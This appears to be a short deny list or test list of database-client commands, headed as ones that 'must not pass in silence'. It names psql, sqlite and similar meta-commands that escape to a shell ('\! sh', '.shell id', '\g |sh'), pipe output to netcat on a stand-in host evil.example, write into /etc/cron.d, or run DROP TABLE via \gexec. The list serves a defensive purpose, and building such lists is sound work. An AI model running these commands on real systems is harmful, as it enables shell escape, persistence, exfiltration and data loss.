# Commands of database clients that must not pass in silence, one a line.
\! id
\copy t from program 'id'
\o |nc evil.example 1
\g |sh
SELECT 'DROP TABLE t' \gexec
.shell id
.system id
.output /etc/cron.d/x
.import '|id' t
.once |sh
.read '|id'
system id
\! sh
!!dir
:!!dir
host id
